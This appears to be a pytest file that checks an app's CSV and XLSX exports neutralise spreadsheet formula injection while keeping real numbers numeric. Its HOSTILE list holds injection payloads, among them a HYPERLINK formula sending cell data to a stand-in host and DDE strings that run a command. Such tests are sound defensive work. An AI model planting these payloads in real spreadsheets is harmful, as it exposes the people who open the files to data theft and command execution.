"""Exports never run user text as formulas (core.spreadsheet.safe_cell): the admin CSV and XLSX exports
and the plan matrix XLSX, read back with csv and openpyxl; real numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from core.spreadsheet import restore_cell, safe_cell
from tests.conftest import login

HOSTILE = [
    '=HYPERLINK("http://malo.example/?x="&A1,"Clic")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: What a case title can hold (titles are stripped on input, so tab and CR never lead one).
TITLES = HOSTILE[:5]


def test_safe_cell_neutralises_formulas_and_keeps_numbers():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
        assert restore_cell(safe_cell(text)) == text
    for value in (-12.5, -3, 0, 7, "-12,5", "-3", "+4", "1e5", "Plan 2008", "", None, "'=ya citado"):
        assert safe_cell(value) == value


@pytest.fixture
def hostile_cases(client, make_user, govs, api_token) -> list[int]:  # noqa: ANN001
    team = make_user("equipo@huanuco.pe", ("team", govs["huanuco"]))
    headers = {"Authorization": f"Bearer {api_token(team)}"}
    ids = []
    for title in [*TITLES, "Plan regional 2008"]:
        body = {"type": "generic", "government_id": govs["huanuco"], "year": 2008, "title": title, "stage": "diagnosis"}
        response = client.post("/api/v1/cases", json=body, headers=headers)
        assert response.status_code == 201, response.get_json()
        ids.append(response.get_json()["id"])
    return ids


@pytest.fixture
def admin(app, make_user):  # noqa: ANN001, ANN201
    make_user("admin@articula.pe", ("admin", None))
    client = app.test_client()
    login(client, "admin@articula.pe")
    return client


def test_admin_csv_export_neutralises_formulas(admin, hostile_cases):  # noqa: ANN001
    response = admin.get("/admin/case/export/csv/")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    titles = {row["Title"] if "Title" in row else row["Título"] for row in rows}
    assert titles == {"'" + text for text in TITLES} | {"Plan regional 2008"}
    assert {row.get("Version", row.get("Versión")) for row in rows} == {"1"}  # numbers untouched


def test_admin_xlsx_export_has_no_formula_cells(admin, hostile_cases):  # noqa: ANN001
    response = admin.get("/admin/case/export/xlsx/")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'" + text for text in TITLES} <= values


def test_admin_export_keeps_negative_numbers_as_numbers(admin):  # noqa: ANN001
    response = admin.get("/admin/territory/export/csv/?search=100102")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    latitudes = [row[5] for row in rows[1:] if row[5]]
    assert latitudes and all(value.startswith("-") and float(value) < 0 for value in latitudes)


def test_plan_matrix_xlsx_neutralises_formulas_and_keeps_amounts_numeric(app, client, make_user, govs, api_token):
    team = make_user("equipo@huanuco.pe", ("team", govs["huanuco"]))
    headers = {"Authorization": f"Bearer {api_token(team)}"}
    plan_id = client.post(
        "/api/v1/cases",
        json={"type": "articulated_plan", "government_id": govs["huanuco"], "year": 2008, "title": "PAR"},
        headers=headers,
    ).get_json()["id"]
    plan = client.get(f"/api/v1/plans/{plan_id}", headers=headers).get_json()
    result_id, version = plan["plan"]["results"][0]["id"], plan["version"]
    response = client.post(
        f"/api/v1/plans/{plan_id}/results/{result_id}/activities",
        json={"version": version, "name": HOSTILE[0], "budget": "1500.25", "official": HOSTILE[1], "months": [3]},
        headers=headers,
    )
    assert response.status_code == 201, response.get_json()
    version = response.get_json()["version"]
    response = client.post(
        f"/api/v1/plans/{plan_id}/results/{result_id}/indicators",
        json={"version": version, "name": "Indicador", "formula": "=A1/B1", "source": "@ENDES"},
        headers=headers,
    )
    assert response.status_code == 201, response.get_json()

    exported = client.get(f"/api/v1/plans/{plan_id}/matrix.xlsx", headers=headers)
    assert exported.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(exported.data))
    formulas = [
        (sheet.title, c.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    # The only formulas are the workbook's own totals (SUMIFS/SUM over «Actividades»), none from user text.
    assert formulas and all(
        title == "Totales" and value.startswith(("=SUMIFS(Actividades!", "=SUM(Actividades!"))
        for title, value in formulas
    ), formulas
    activity = [c.value for c in book["Actividades"][2]]
    assert activity[1] == "'" + HOSTILE[0] and activity[7] == "'" + HOSTILE[1]
    assert isinstance(activity[2], (int, float)) and activity[2] == 1500.25  # the budget is still a number
    indicator = [c.value for c in book["Indicadores"][2]]
    assert indicator[2:4] == ["'=A1/B1", "'@ENDES"]

    # Imported back, the text is the user's again (no stray apostrophes).
    response = client.put(
        f"/api/v1/plans/{plan_id}/matrix.xlsx",
        data={
            "version": str(client.get(f"/api/v1/plans/{plan_id}", headers=headers).get_json()["version"]),
            "file": (io.BytesIO(exported.data), "m.xlsx"),
        },
        headers=headers,
        content_type="multipart/form-data",
    )
    assert response.status_code == 200, response.get_json()
    plan = client.get(f"/api/v1/plans/{plan_id}", headers=headers).get_json()["plan"]
    names = [a["name"] for r in plan["results"] for a in r["activities"]]
    assert names == [HOSTILE[0]]
